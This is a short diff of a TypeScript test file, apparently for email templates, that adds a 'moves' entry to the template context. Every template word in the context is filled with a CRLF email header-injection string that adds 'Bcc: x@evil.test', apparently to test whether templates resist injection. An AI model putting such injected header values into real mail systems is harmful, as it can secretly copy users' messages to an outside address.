@@ -29,7 +29,7 @@ const WORDS = Object.fromEntries(
     .flatMap((name) => [...readFileSync(join(TEMPLATES, name), 'utf8').matchAll(/\b([a-z][a-z_]+)\b/g)])
     .map(([, name = '']) => [name, name === 'count' ? 1 : `A\r\nBcc: x@evil.test ${name}`]),
 );
-const CONTEXT = { ...WORDS, payments: [WORDS] };
+const CONTEXT = { ...WORDS, payments: [WORDS], moves: [WORDS] };
 
 async function send(who: Client, user_type: 'ip' | 'admin', mail: Pick<Mail, 'event' | 'template_name' | 'key'>) {
   const to = { id: who.userId, user_type, email_address: 'someone@demo.test' };
